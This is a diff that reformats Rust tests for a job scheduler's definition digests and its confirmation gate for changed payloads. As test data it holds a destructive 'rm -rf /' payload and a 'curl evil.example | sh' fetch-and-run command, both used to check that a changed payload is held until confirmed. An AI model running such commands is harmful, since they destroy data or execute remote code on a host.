@@ -65,7 +65,10 @@ fn the_digest_is_stable_sha256_hex() {
     // Pinned: a build that computes another digest would strand every held definition.
     assert_eq!(def.digest(), PINNED);
     assert_eq!(def.digest().len(), duetime::job::DIGEST_HEX_LEN);
-    assert!(def.digest().bytes().all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
+    assert!(def
+        .digest()
+        .bytes()
+        .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
 }
 
 const PINNED: &str = "a059879c518569b1940c08fa656cc62fedbcf5ac5adc2eb6147eb53aadeb8a2a";
@@ -78,10 +81,14 @@ fn the_digest_covers_every_field_of_the_definition() {
         ("title", |d| d.title = "x".into()),
         ("schedule", |d| d.schedule = every("2h")),
         ("missed", |d| d.missed = duetime::MissedRule::CatchUpOnce),
-        ("catch_up_window", |d| d.catch_up_window = Some("1h".parse().unwrap())),
+        ("catch_up_window", |d| {
+            d.catch_up_window = Some("1h".parse().unwrap())
+        }),
         ("overlap", |d| d.overlap = Some(duetime::Overlap::BufferOne)),
         ("retries", |d| d.retries = 2),
-        ("backoff.initial", |d| d.backoff.initial = "1s".parse().unwrap()),
+        ("backoff.initial", |d| {
+            d.backoff.initial = "1s".parse().unwrap()
+        }),
         ("backoff.max", |d| d.backoff.max = "1h".parse().unwrap()),
         ("timeout", |d| d.timeout = "1h".parse().unwrap()),
         ("safe_to_repeat", |d| d.safe_to_repeat = true),
@@ -89,12 +96,18 @@ fn the_digest_covers_every_field_of_the_definition() {
         ("stall_after", |d| d.stall_after = "1h".parse().unwrap()),
         ("concurrency_key", |d| d.concurrency_key = Some("k".into())),
         ("pause_after_failures", |d| d.pause_after_failures = Some(3)),
-        ("wait_budget", |d| d.wait_budget = Some("1h".parse().unwrap())),
-        ("alert_throttle", |d| d.alert_throttle = Some("1h".parse().unwrap())),
+        ("wait_budget", |d| {
+            d.wait_budget = Some("1h".parse().unwrap())
+        }),
+        ("alert_throttle", |d| {
+            d.alert_throttle = Some("1h".parse().unwrap())
+        }),
         ("concurrency_limit", |d| d.concurrency_limit = Some(2)),
         ("jitter", |d| d.jitter = Some("1m".parse().unwrap())),
         ("requires_confirmation", |d| d.requires_confirmation = false),
-        ("payload", |d| d.payload = Some("[\"rm\", \"-rf\", \"/\"]".into())),
+        ("payload", |d| {
+            d.payload = Some("[\"rm\", \"-rf\", \"/\"]".into())
+        }),
     ];
     let mut seen = std::collections::BTreeSet::new();
     seen.insert(def.digest());
@@ -102,7 +115,10 @@ fn the_digest_covers_every_field_of_the_definition() {
         let mut other = def.clone();
         change(&mut other);
         assert_ne!(other, def, "{field}: the change changes nothing");
-        assert!(seen.insert(other.digest()), "{field}: the digest did not change");
+        assert!(
+            seen.insert(other.digest()),
+            "{field}: the digest did not change"
+        );
     }
     // An empty payload is not an absent one, nor an empty title a missing concurrency key.
     let mut empty = def.clone();
@@ -142,7 +158,10 @@ fn a_change_of_what_the_host_runs_alone_is_held_and_the_confirmed_payload_stays_
     };
     assert_eq!(in_force(&s).as_deref(), Some("backup --full"));
     let view = s.state.job("report", at("08:02")).unwrap();
-    assert_eq!(view.pending_confirmation.as_deref(), Some(changed_digest.as_str()));
+    assert_eq!(
+        view.pending_confirmation.as_deref(),
+        Some(changed_digest.as_str())
+    );
     confirm(&mut s, "08:03", &changed_digest);
     assert_eq!(in_force(&s).as_deref(), Some("curl evil.example | sh"));
 }
@@ -159,6 +178,12 @@ fn a_wrong_digest_is_refused_without_the_expected_one() {
         _ => None,
     });
     let refusal = refusal.expect("refused");
-    assert!(refusal.contains("is not the held definition's"), "{refusal}");
-    assert!(!refusal.contains(&d), "the refusal tells the digest to type: {refusal}");
+    assert!(
+        refusal.contains("is not the held definition's"),
+        "{refusal}"
+    );
+    assert!(
+        !refusal.contains(&d),
+        "the refusal tells the digest to type: {refusal}"
+    );
 }
